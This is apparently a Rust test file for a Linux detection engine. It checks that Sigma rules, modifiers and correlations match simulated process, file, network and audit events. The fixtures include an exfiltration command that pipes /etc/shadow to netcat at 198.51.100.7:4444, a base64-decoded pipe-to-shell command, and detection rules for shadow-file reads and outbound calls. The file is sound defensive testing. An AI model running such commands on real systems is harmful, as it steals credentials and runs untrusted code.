//! Sigma's rules over the same events.

use crate::stage::{SECOND, Stage, at, changed, end, exec, file, flow, judge, load, stage, told};
use proptest::prelude::*;
use std::sync::Arc;
use taffrail_rules::judge::Judge;
use taffrail_rules::load::Loaded;
use taffrail_rules::matcher::RuleSet;
use taffrail_trace::event::{FileOp, FlowOp, KernelOp, Protocol, Severity};

/// A rule about a category with this detection, whose condition is `selection` unless it has one.
fn rule(category: &str, detection: &str) -> String {
    let logsource = if category == "auditd" { "service: auditd" } else { &format!("category: {category}") };
    let condition = if detection.contains("condition:") { "" } else { "  condition: selection\n" };
    let lines = format!("  {}\n", detection.trim_end().replace('\n', "\n  "));
    format!("title: r\nlogsource:\n  product: linux\n  {logsource}\ndetection:\n{lines}{condition}")
}

fn holds(stage: &Stage, category: &str, detection: &str) -> bool {
    let text = rule(category, detection);
    let loaded = load(&text);
    assert_eq!(loaded.problems, [], "{text}");
    assert_eq!(loaded.unsupported, [], "{text}");
    Judge::new(Arc::new(RuleSet::new(loaded.rules))).see(stage).next().is_some()
}

fn reason(category: &str, detection: &str) -> String {
    let Loaded { problems, unsupported, rules, .. } = load(&rule(category, detection));
    assert_eq!((problems, rules.len()), (vec![], 0), "{detection}");
    unsupported[0].reasons.join("; ")
}

#[test]
fn values_and_modifiers_say_what_sigma_says() {
    // sh -c "cat /etc/shadow | nc 198.51.100.7 4444" of nginx, by www-data.
    for (detection, expected) in [
        ("selection:\n  Image: /bin/dash", true),
        ("selection:\n  Image: /BIN/DASH", true),
        ("selection:\n  Image|cased: /BIN/DASH", false),
        ("selection:\n  Image|endswith: ['/bash', '/DASH']", true),
        ("selection:\n  Image|endswith: ['/bash', '/zsh']", false),
        ("selection:\n  Image|startswith: /bin/", true),
        ("selection:\n  CommandLine|contains: ' NC '", true),
        ("selection:\n  CommandLine|contains|cased: ' NC '", false),
        ("selection:\n  CommandLine|contains|all: ['cat ', '| nc ']", true),
        ("selection:\n  CommandLine|contains|all: ['cat ', ' ncat ']", false),
        ("selection:\n  CommandLine: '*shadow*44?4'", true),
        ("selection:\n  CommandLine: 'sh -c cat*'", true),
        ("selection:\n  CommandLine: '*44?5'", false),
        ("selection:\n  CommandLine|re: 'nc [0-9.]+ \\d{4}$'", true),
        ("selection:\n  CommandLine|re: 'NC [0-9]'", false),
        ("selection:\n  CommandLine|re|i: 'NC [0-9]'", true),
        ("selection:\n  Image: /bin/dash\n  ParentImage|endswith: /nginx", true),
        ("selection:\n  Image: /bin/dash\n  ParentImage|endswith: /apache2", false),
        ("selection:\n- Image: /bin/bash\n- ParentImage|endswith: /nginx", true),
        ("selection:\n- shadow\n- other", true),
        ("selection:\n  '|all': [shadow, nc]", true),
        ("selection:\n  '|all': [shadow, other]", false),
        ("selection:\n  User: www-data", true),
        ("selection:\n  User|exists: false", false),
        ("selection:\n  ProcessId: 40", true),
        ("selection:\n  ProcessId: '41'", false),
        ("selection:\n  ProcessId|gte: 40\n  ParentProcessId|lt: 31", true),
        ("selection:\n  ProcessId|neq: 40", false),
        ("selection:\n  CommandLine|windash|contains: ' /c '", true),
        ("selection:\n  CommandLine|contains: ' /c '", false),
        ("selection:\n  CurrentDirectory|startswith: /dev/shm", true),
        ("selection:\n  CommandLine: ''", false),
        ("selection:\n  CommandLine: null", false),
        ("selection:\n  fd.name: null", true),
        ("selection:\n  CommandLine|fieldref|contains: CommandLine", true),
        ("selection:\n  Image|fieldref: ParentImage", false),
        ("selection:\n  container.name: WEB\n  proc.aname: systemd", true),
    ] {
        assert_eq!(holds(&exec(), "process_creation", detection), expected, "{detection}");
    }
}

#[test]
fn an_encoded_value_is_found_wherever_it_stands() {
    let mut stage = exec();
    // echo xxhttp://evil | base64
    stage.lineage[0].args = ["sh", "-c", "echo eHhodHRwOi8vZXZpbA== | base64 -d | sh"].map(str::to_owned).into();
    assert!(holds(&stage, "process_creation", "selection:\n  CommandLine|base64offset|contains: 'http://'"));
    assert!(!holds(&stage, "process_creation", "selection:\n  CommandLine|base64|contains: 'http://'"));
    stage.lineage[0].args[2] = "YQBiAA==".to_owned();
    assert!(holds(&stage, "process_creation", "selection:\n  CommandLine|wide|base64offset|contains: ab"));
}

#[test]
fn conditions_combine_selections() {
    let selections = "sel_shell:\n  Image|endswith: sh\nsel_web:\n  ParentImage|endswith: nginx\nfilter:\n  User: root";
    for (condition, expected) in [
        ("sel_shell and sel_web and not filter", true),
        ("all of sel_* and not filter", true),
        ("all of them", false),
        ("1 of them", true),
        ("any of s*_* or filter", true),
        ("filter or (sel_shell AND NOT 1 of fil* and sel_web)", true),
        ("[filter, 1 of sel_*]", true),
        ("not (sel_shell or filter) and sel_web", false),
    ] {
        let detection = format!("{selections}\ncondition: {condition}");
        assert_eq!(holds(&exec(), "process_creation", &detection), expected, "{condition}");
    }
}

#[test]
fn files_and_connections_have_their_own_fields() {
    let made = stage(file(FileOp::Create, "/etc/cron.d/x"));
    let emptied = stage(changed(file(FileOp::Open, "/etc/cron.d/x"), |file| file.flags = 0o1001));
    let read = stage(file(FileOp::Open, "/etc/cron.d/x"));
    let cron = "selection:\n  TargetFilename|startswith: /etc/cron\n  Image|endswith: dash";
    assert!(holds(&made, "file_event", cron) && holds(&emptied, "file_event", cron));
    assert!(!holds(&read, "file_event", cron) && holds(&read, "file_access", cron));
    assert!(holds(
        &stage(file(FileOp::Unlink, "/var/log/x")),
        "file_delete",
        "selection:\n  TargetFilename: /var/log/*"
    ));
    let outward = stage(flow(Protocol::Tcp, FlowOp::Connect, end([198, 51, 100, 7], 4444)));
    let inward = stage(flow(Protocol::Tcp, FlowOp::Accept, end([198, 51, 100, 7], 4444)));
    for (detection, calls, is_called) in [
        ("selection:\n  DestinationIp: 198.51.100.7\n  DestinationPort: 4444", true, false),
        ("selection:\n  DestinationPort: [22, 40000]\n  SourceIp|cidr: 198.51.0.0/16", false, true),
        ("selection:\n  Initiated: 'true'\n  Protocol: TCP", true, false),
        ("selection:\n  Initiated: false", false, true),
        ("selection:\n  DestinationIp|startswith: ['10.', '198.51.']", true, true),
        ("selection:\n  DestinationIp: '198.*'", true, false),
    ] {
        assert_eq!(holds(&outward, "network_connection", detection), calls, "{detection}");
        assert_eq!(holds(&inward, "network_connection", detection), is_called, "{detection}");
    }
}

#[test]
fn records_of_the_audit_are_events_of_ours() {
    let load = crate::stage::kernel(KernelOp::ModuleLoad, "finit_module", "");
    for (stage, detection, expected) in [
        (exec(), "selection:\n  type: EXECVE\n  a0: sh\n  a2|contains: shadow", true),
        (exec(), "selection:\n  type: EXECVE\n  a1: sh", false),
        (exec(), "selection:\n  type: SYSCALL\n  syscall: execve\n  exe|endswith: dash\n  success: 'no'", false),
        (stage(load.clone()), "selection:\n  type: SYSCALL\n  syscall: [init_module, 313]\n  comm: sh", true),
        (stage(load), "selection:\n  type: SYSCALL\n  syscall: delete_module", false),
        (stage(file(FileOp::Open, "/etc/shadow")), "selection:\n  type: PATH\n  name: /etc/shadow", true),
        (exec(), "selection:\n- shadow", true),
    ] {
        assert_eq!(holds(&stage, "auditd", detection), expected, "{detection}");
    }
}

#[test]
fn what_is_not_recorded_is_told_with_the_reason() {
    for (category, detection, expected) in [
        ("dns_query", "selection:\n  QueryName: x", "category dns_query: no event of ours is one"),
        ("process_creation", "selection:\n  Hashes: x", "Hashes: digests become known after the event"),
        ("process_creation", "selection:\n  Imge: x", "Imge: no field of these events; did you mean 'Image'? (7:5)"),
        (
            "process_creation",
            "selection:\n  CommandLine|expand: '%x%'",
            "CommandLine: 'expand': placeholders are filled in",
        ),
        ("process_creation", "selection:\n  CommandLine|wide: x", "UTF-16 without 'base64' behind it"),
        ("network_connection", "selection:\n  DestinationIp|contains: '.7'", "DestinationIp: it is an address here"),
        ("network_connection", "selection:\n  DestinationPort|endswith: 4", "DestinationPort: it is a number here"),
        ("auditd", "selection:\n  type: USER_LOGIN", "type: no event of ours is 'USER_LOGIN'"),
        ("auditd", "selection:\n  type: SYSCALL\n  a1: 7f", "a1: what a system call was given"),
        ("auditd", "selection:\n  key: x", "key: audit rules and their keys are not ours"),
    ] {
        let found = reason(category, detection);
        assert!(found.starts_with(expected), "{detection}: {found}");
    }
    let windows = rule("process_creation", "selection:\n  Image: x").replace("linux", "windows");
    assert_eq!(load(&windows).unsupported[0].reasons, ["product windows: only linux is recorded"]);
    let retired = format!("status: deprecated\n{}", rule("process_creation", "selection:\n  Image: x"));
    assert_eq!(load(&retired).disabled, ["r"]);
}

#[test]
fn a_match_tells_title_level_tags_and_what_was_seen() {
    let text = rule("process_creation", "selection:\n  Image: /bin/dash")
        .replace("title: r", "title: Shell\nlevel: high\ntags: [attack.execution, attack.t1059.004]");
    let mut judge = judge(&text);
    let scene = exec();
    let finding = judge.see(&scene).next().expect("a match").finding(&scene);
    assert_eq!(
        finding.message,
        "Shell: proc.exeline=sh -c cat /etc/shadow | nc 198.51.100.7 4444 proc.exepath=/bin/dash proc.pname=nginx \
         user.name=www-data"
    );
    assert_eq!((finding.severity, finding.priority.as_deref()), (Severity::Critical, Some("error")));
    assert_eq!((finding.tags.len(), finding.techniques), (2, vec!["T1059.004".to_owned()]));
}

const BASE: &str = "title: Read
name: read
logsource: {category: file_access, product: linux}
detection:
  selection: {TargetFilename: [/etc/shadow, /etc/passwd]}
  condition: selection
---
title: Call
name: call
logsource: {category: network_connection, product: linux}
detection:
  selection: {Initiated: 'true'}
  condition: selection
---
";

fn correlated(correlation: &str) -> Judge {
    judge(&format!("{BASE}title: Both\ncorrelation:\n  timespan: 10s\n  {correlation}\n"))
}

fn read(seconds: u64, path: &str) -> Stage {
    at(seconds * SECOND, stage(file(FileOp::Open, path)))
}

fn call(seconds: u64, port: u16) -> Stage {
    at(seconds * SECOND, stage(flow(Protocol::Tcp, FlowOp::Connect, end([198, 51, 100, 7], port))))
}

#[test]
fn correlations_are_thresholds_and_sequences() {
    let names = |judge: &mut Judge, stages: &[Stage]| -> Vec<usize> {
        stages.iter().map(|stage| told(judge, stage).iter().filter(|told| *told == "Both").count()).collect()
    };
    let mut counts = correlated("type: event_count\n  rules: [read]\n  group-by: [ProcessId]\n  condition: {gt: 2}");
    let reads = [read(1, "/etc/shadow"), read(2, "/etc/shadow"), read(3, "/x"), read(4, "/etc/shadow")];
    assert_eq!(names(&mut counts, &reads), [0, 0, 0, 1]);
    let mut values = correlated("type: value_count\n  rules: [read]\n  condition: {gte: 2, field: TargetFilename}");
    let reads = [read(1, "/etc/shadow"), read(2, "/etc/shadow"), read(4, "/etc/passwd")];
    assert_eq!(names(&mut values, &reads), [0, 0, 1]);
    let mut together = correlated("type: temporal\n  rules: [read, call]\n  group-by: [Image]");
    assert_eq!(names(&mut together, &[call(1, 22), call(2, 22), read(12, "/etc/shadow")]), [0, 0, 1]);
    let mut ordered = correlated("type: temporal_ordered\n  rules: [read, call]");
    assert_eq!(names(&mut ordered, &[call(1, 22), read(3, "/etc/shadow"), call(13, 22)]), [0, 0, 1]);
    assert_eq!(names(&mut ordered, &[read(23, "/etc/shadow"), call(34, 22)]), [0, 0]);
}

#[test]
fn fields_of_two_rules_are_one_under_an_alias() {
    let mut judge = correlated(
        "type: temporal\n  rules: [read, call]\n  group-by: [who]\n  aliases:\n    who: {read: ProcessId, call: \
         DestinationPort}",
    );
    assert_eq!(told(&mut judge, &read(1, "/etc/shadow")), [""; 0]);
    assert_eq!(told(&mut judge, &call(2, 22)), [""; 0]);
    assert_eq!(told(&mut judge, &call(3, 40)), ["Both"]);
}

#[test]
fn what_a_correlation_names_is_silent_unless_it_generates() {
    let text = "type: event_count\n  rules: [read]\n  condition: {gte: 9}";
    assert_eq!(told(&mut correlated(text), &read(1, "/etc/shadow")), [""; 0]);
    let mut generates = correlated(&format!("{text}\n  generate: true"));
    assert!(told(&mut generates, &read(1, "/etc/shadow"))[0].starts_with("Read: fd.name=/etc/shadow"));
    assert!(told(&mut generates, &call(2, 22))[0].starts_with("Call:"));
}

#[test]
fn falco_and_sigma_are_told_apart_by_what_they_say() {
    let both = taffrail_rules::load::load([
        ("falco.yaml", crate::stage::rule("a", "evt.type = execve", "").as_str()),
        ("sigma.yml", rule("process_creation", "selection:\n  Image: /bin/dash").as_str()),
    ]);
    assert_eq!(both.problems, []);
    assert_eq!(both.rules.iter().map(|rule| rule.name.as_str()).collect::<Vec<_>>(), ["a", "r"]);
    let twice = rule("process_creation", "selection:\n  Image: x");
    let twice = taffrail_rules::load::load([("a.yml", twice.as_str()), ("b.yml", twice.as_str())]);
    assert_eq!(twice.problems[0].to_string(), "b.yml:1:8: another rule is called 'r': a.yml:1:8");
}

proptest! {
    #[test]
    fn no_file_that_looks_like_sigma_makes_it_panic(
        lines in proptest::collection::vec(
            "( {2}| {4}|- )?(title|name|id|logsource|category|product|service|detection|selection|condition|correlation|type|rules|\
             group-by|timespan|Image\\|re|CommandLine\\|windash\\|base64offset\\|all|DestinationIp\\|cidr|ProcessId\\|gt|a1|---): ?\
             (linux|process_creation|auditd|network_connection|selection|1 of sel\\*|not \\(|\\[a, b\\]|'\\*a\\?'|5m|temporal|\
             event_count|\\{gte: 2\\}|10\\.0\\.0\\.0/8|null|'')?",
            0..24,
        ),
    ) {
        let _ = load(&format!("title: a\n{}", lines.join("\n")));
    }

    #[test]
    fn no_pattern_makes_it_panic_and_a_plain_text_is_itself(text in "[ -~]{1,24}") {
        let quoted = text.replace('\'', "''");
        let loaded = load(&rule("process_creation", &format!("selection:\n  CommandLine|cased: '{quoted}'")));
        prop_assert_eq!(loaded.problems, []);
        let mut stage = exec();
        stage.lineage[0].args = vec![text.clone()];
        if !text.contains(['*', '?', '\\']) {
            let mut judge = Judge::new(Arc::new(RuleSet::new(loaded.rules)));
            prop_assert!(judge.see(&stage).next().is_some(), "{}", text);
        }
    }
}
